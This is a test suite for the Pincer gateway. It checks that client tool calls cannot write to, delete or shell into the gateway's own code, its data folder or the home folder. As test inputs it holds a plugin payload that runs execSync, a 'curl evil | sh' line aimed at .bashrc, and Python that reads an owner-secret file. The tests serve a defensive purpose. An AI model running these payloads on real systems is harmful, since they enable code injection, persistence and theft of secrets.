import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { allow } from '../../../server/decision.js';
import { sandboxSupport } from '../../../server/process/sandbox.js';
import { PACKAGE_ROOT } from '../../../server/version.js';
import { readJson, startGateway, tempDir, type TestGateway } from '../../helpers/gateway.js';

/**
 * Pincer's own files are not a workspace, through the real gateway over HTTP: started inside its own package (as
 * `npm start` in a checkout does) it shares nothing, so a client cannot rewrite the bundled plugin or the server;
 * started in `/` or the home folder it shares nothing either; and a root that holds the package keeps the package
 * unwritable for file_write, file_delete and run_shell (the shell check, and the sandbox behind it).
 *
 * Every write aimed at the real package is checked for having changed nothing; files it could have changed are put
 * back whatever happens, so a failing run cannot leave the checkout altered.
 */

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = any;

const PLUGIN_FILE = join(PACKAGE_ROOT, 'plugins', 'investment', 'index.js');
const SERVER_FILE = join(PACKAGE_ROOT, 'server', 'version.ts');
const PROBE = join(PACKAGE_ROOT, 'plugins', 'investment', `pincer-own-files-probe-${process.pid}.js`);
const originals = new Map([PLUGIN_FILE, SERVER_FILE].map((file) => [file, readFileSync(file)]));

/** Whatever a failing protection wrote into the package is undone before anything else runs. */
function restorePackage(): void {
  for (const [file, content] of originals) if (!readFileSync(file).equals(content)) writeFileSync(file, content);
  rmSync(PROBE, { force: true });
}
afterEach(restorePackage);
afterAll(restorePackage);

function expectPackageUnchanged(): void {
  for (const [file, content] of originals) expect(readFileSync(file).equals(content), `${file} was changed`).toBe(true);
  expect(existsSync(PROBE), `${PROBE} was created`).toBe(false);
}

async function call(tg: TestGateway, tool: string, args: Json): Promise<{ status: number; body: Json }> {
  const res = await tg.api(`/tools/${tool}/execute`, { method: 'POST', json: args });
  return { status: res.status, body: await readJson(res) };
}

const PAYLOAD = 'import { execSync } from "node:child_process"; execSync("id > /tmp/pwned");\nexport default {};\n';

describe('a gateway started in its own package folder with no roots configured', () => {
  let tg: TestGateway;
  beforeAll(async () => {
    tg = await startGateway({}, {}, { cwd: PACKAGE_ROOT });
  });
  afterAll(() => tg?.close());

  it('shares no folder, and its settings say why', async () => {
    expect(tg.gateway.config.roots).toEqual([]);
    const settings = await readJson(await tg.asOwner('/settings'));
    expect(settings.roots).toEqual([]);
    expect(settings.roots_notice).toBe(`the working folder ${PACKAGE_ROOT} is Pincer's own package folder (its code), so it is not shared by default`);
  });

  it("a client's file_write into plugins/investment/index.js is refused, relative or absolute", async () => {
    const relative = await call(tg, 'file_write', { path: 'plugins/investment/index.js', content: PAYLOAD });
    expect(relative.status).toBe(403);
    expect(relative.body.error).toMatchObject({ name: 'POLICY_DENIED', details: { rule: 'path:no-roots' } });
    expect(relative.body.error.message).toContain('pincer roots add DIR');
    const absolute = await call(tg, 'file_write', { path: PLUGIN_FILE, content: PAYLOAD });
    expect(absolute.status).toBe(403);
    expect(absolute.body.error).toMatchObject({ name: 'POLICY_DENIED', details: { rule: 'path:pincer-code' } });
    expectPackageUnchanged();
  });

  it("a client's file_write into server/… is refused, and so is a new file there", async () => {
    for (const path of ['server/version.ts', SERVER_FILE, PROBE]) {
      const { status, body } = await call(tg, 'file_write', { path, content: 'export const PWNED = 1;' });
      expect(status, path).toBe(403);
      expect(body.error.name).toBe('POLICY_DENIED');
      expect(['path:no-roots', 'path:pincer-code']).toContain(body.error.details.rule);
    }
    expectPackageUnchanged();
  });

  it('file_delete of a bundled plugin file is refused', async () => {
    const { status, body } = await call(tg, 'file_delete', { path: PLUGIN_FILE });
    expect(status).toBe(403);
    expect(body.error.details.rule).toBe('path:pincer-code');
    expectPackageUnchanged();
  });

  it('file_read and file_list answer how the owner shares a folder', async () => {
    for (const [tool, args] of [
      ['file_read', { path: 'README.md' }],
      ['file_list', { path: '.' }],
    ] as const) {
      const { status, body } = await call(tg, tool, args);
      expect(status, tool).toBe(403);
      expect(body.error.details.rule).toBe('path:no-roots');
      expect(body.error.message).toMatch(/no folder is shared with Pincer yet/);
    }
  });

  it('run_shell refuses with the same message, even for a command that touches no file', async () => {
    for (const command of ['date', `echo x > ${PLUGIN_FILE}`]) {
      const { status, body } = await call(tg, 'run_shell', { command });
      expect(status, command).toBe(403);
      expect(body.error.details.rule).toBe('path:no-roots');
      expect(body.error.message).toContain('pincer roots add DIR');
    }
    expectPackageUnchanged();
  });

  it('tools that need no folder still work', async () => {
    expect((await call(tg, 'calculate', { expression: '6 * 7' })).body).toMatchObject({ success: true, result: { result: 42 } });
  });

  it('PATCH /settings shares a folder from none, and the file tools work there at once', async () => {
    const folder = tempDir('pincer-own-files-share-');
    try {
      const res = await tg.asOwner('/settings', { method: 'PATCH', json: { roots: [folder] } });
      expect(res.status).toBe(200);
      const view = await readJson(res);
      expect(view.roots).toEqual([folder]);
      expect(view.roots_notice).toBeUndefined();
      expect((await call(tg, 'file_write', { path: 'notes.txt', content: 'hi' })).body).toMatchObject({ success: true });
      expect(readFileSync(join(folder, 'notes.txt'), 'utf8')).toBe('hi');
      // The package is still out of bounds from the new root.
      expect((await call(tg, 'file_write', { path: PLUGIN_FILE, content: PAYLOAD })).body.error.details.rule).toBe('path:pincer-code');
      // And back to none: the list may be empty.
      const none = await tg.asOwner('/settings', { method: 'PATCH', json: { roots: [] } });
      expect(none.status).toBe(200);
      expect((await readJson(none)).roots).toEqual([]);
      expect(JSON.parse(readFileSync(join(tg.dataDir, 'config.json'), 'utf8')).roots).toEqual([]);
      expect((await call(tg, 'file_read', { path: 'notes.txt' })).body.error.details.rule).toBe('path:no-roots');
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
    expectPackageUnchanged();
  });

  it('PATCH /settings refuses the package, its plugins folder and the data folder as roots, naming the folder and why', async () => {
    for (const [root, why] of [
      [PACKAGE_ROOT, "is Pincer's own package folder"],
      [join(PACKAGE_ROOT, 'plugins', 'investment'), "is inside Pincer's bundled plugins folder"],
      [tg.dataDir, "is Pincer's data folder"],
    ]) {
      const res = await tg.asOwner('/settings', { method: 'PATCH', json: { roots: [root] } });
      expect(res.status, root).toBe(400);
      const { message } = (await readJson(res)).error;
      expect(message).toContain(`"${root}"`);
      expect(message).toContain(why);
    }
  });
});

describe("started in '/' or in the home folder itself, with no roots configured", () => {
  it("'/' shares nothing (Claude Desktop starts pincer mcp there)", async () => {
    const tg = await startGateway({}, {}, { cwd: '/' });
    try {
      expect(tg.gateway.config.roots).toEqual([]);
      const { status, body } = await call(tg, 'file_read', { path: 'etc/hostname' });
      expect(status).toBe(403);
      expect(body.error.details.rule).toBe('path:no-roots');
    } finally {
      await tg.close();
    }
  });

  it('the home folder itself shares nothing; a project folder inside it is shared', async () => {
    const home = tempDir('pincer-own-files-home-');
    mkdirSync(join(home, 'project'));
    try {
      const atHome = await startGateway({}, {}, { cwd: home, home });
      try {
        expect(atHome.gateway.config.roots).toEqual([]);
        expect((await call(atHome, 'file_write', { path: '.bashrc', content: 'curl evil | sh' })).status).toBe(403);
        expect(existsSync(join(home, '.bashrc'))).toBe(false);
      } finally {
        await atHome.close();
      }
      const inProject = await startGateway({}, {}, { cwd: join(home, 'project'), home });
      try {
        expect(inProject.gateway.config.roots).toEqual([join(home, 'project')]);
      } finally {
        await inProject.close();
      }
    } finally {
      rmSync(home, { recursive: true, force: true });
    }
  });
});

describe('a root that holds the package folder (the folder a checkout sits in)', () => {
  const parent = dirname(PACKAGE_ROOT);
  let tg: TestGateway;
  beforeAll(async () => {
    tg = await startGateway({ roots: [parent] });
  });
  afterAll(() => tg?.close());

  it('is accepted as a workspace', async () => {
    expect((await readJson(await tg.asOwner('/settings'))).roots).toEqual([parent]);
  });

  it('file_write into the bundled plugin and the server is refused, even though both lie inside the root', async () => {
    for (const path of [PLUGIN_FILE, SERVER_FILE, PROBE, join(PACKAGE_ROOT, 'package.json')]) {
      const { status, body } = await call(tg, 'file_write', { path, content: PAYLOAD });
      expect(status, path).toBe(403);
      expect(body.error.details.rule).toBe('path:pincer-code');
      expect(body.error.message).toMatch(/even with approval/);
    }
    expectPackageUnchanged();
  });

  it('file_delete of a plugin file, the plugins folder or the package is refused', async () => {
    for (const path of [PLUGIN_FILE, join(PACKAGE_ROOT, 'plugins'), PACKAGE_ROOT]) {
      const { status, body } = await call(tg, 'file_delete', { path });
      expect(status, path).toBe(403);
      expect(body.error.details.rule).toBe('path:pincer-code');
    }
    expectPackageUnchanged();
  });

  it('reading the package stays allowed', async () => {
    const { body } = await call(tg, 'file_read', { path: join(PACKAGE_ROOT, 'package.json') });
    expect(body.success).toBe(true);
    expect(body.result.content).toContain('"name": "pincer"');
  });

  it('run_shell: the shell check refuses `echo x > <pkg>/plugins/investment/index.js` and its look-alikes', async () => {
    for (const command of [
      `echo x > ${PLUGIN_FILE}`,
      `cp /etc/hostname ${PLUGIN_FILE}`,
      `sed -i 's/export/x/' ${PLUGIN_FILE}`,
      `cd ${PACKAGE_ROOT} && echo x | tee plugins/investment/index.js`,
    ]) {
      const { status, body } = await call(tg, 'run_shell', { command, cwd: parent });
      expect(status, command).toBe(403);
      expect(body.error).toMatchObject({ name: 'POLICY_DENIED', details: { rule: 'shell:pincer-code' } });
    }
    const check = await (await tg.api('/policy/check', { method: 'POST', json: { name: 'run_shell', arguments: { command: `echo x > ${PLUGIN_FILE}` } } })).json();
    expect(check).toMatchObject({ decision: 'deny', rule: 'shell:pincer-code' });
    expectPackageUnchanged();
  });

  it('run_python: code that names the package is refused (an approval would run it outside the sandbox), and so is code naming the data folder', async () => {
    const write = await call(tg, 'run_python', { code: `open(${JSON.stringify(PLUGIN_FILE)}, "w").write("import os")` });
    expect(write.status).toBe(403);
    expect(write.body.error.details.rule).toBe('python:pincer-code');
    const secret = await call(tg, 'run_python', { code: `print(open(${JSON.stringify(join(tg.dataDir, 'owner-secret'))}).read())` });
    expect(secret.status).toBe(403);
    expect(secret.body.error.details.rule).toBe('python:pincer-data');
    // Pure computation that merely spells the path touches nothing and still runs.
    const pure = await call(tg, 'run_python', { code: `print(len(${JSON.stringify(PLUGIN_FILE)}))` });
    expect(pure.body).toMatchObject({ success: true });
    expectPackageUnchanged();
  });
});

const sandboxed = sandboxSupport().kind === 'bubblewrap';
if (!sandboxed && process.env.CI) throw new Error(`CI must run the sandbox tests, but: ${sandboxSupport().detail}`);

describe.skipIf(!sandboxed)('a root that holds the package, with every call forced to allow: the sandbox still keeps the package read-only', () => {
  const parent = dirname(PACKAGE_ROOT);
  let tg: TestGateway;
  beforeAll(async () => {
    // A test-only policy handed to the gateway in-process (no client can reach it): the shell check is out of the
    // way, so only the sandbox stands between the command and the package.
    tg = await startGateway({ roots: [parent] }, { policy: { decide: () => allow('test:forced-allow', 'Forced by the test.') } });
  });
  afterAll(() => tg?.close());

  it('`echo x > <pkg>/plugins/investment/index.js` fails inside the sandbox, and a new file cannot be made either', async () => {
    const { body } = await call(tg, 'run_shell', { command: `echo x > ${PLUGIN_FILE}; echo y > ${PROBE}; echo done`, cwd: parent });
    expect(body.success, JSON.stringify(body)).toBe(true);
    expect(body.result.output).toMatch(/Read-only file system/);
    expect(body.result.output).toContain('done');
    expectPackageUnchanged();
  });

  it('run_python cannot write there either', async () => {
    const { body } = await call(tg, 'run_python', { code: `open(${JSON.stringify(PLUGIN_FILE)}, "w").write("x")` });
    expect(body.success === false || body.result.exit_code !== 0, JSON.stringify(body)).toBe(true);
    expect(JSON.stringify(body)).toMatch(/Read-only file system|Errno 30/);
    expectPackageUnchanged();
  });

  it('reading the package inside the sandbox still works', async () => {
    const { body } = await call(tg, 'run_shell', { command: `head -c 40 ${join(PACKAGE_ROOT, 'package.json')}`, cwd: parent });
    expect(body.result.output).toContain('"name": "pincer"');
  });
});
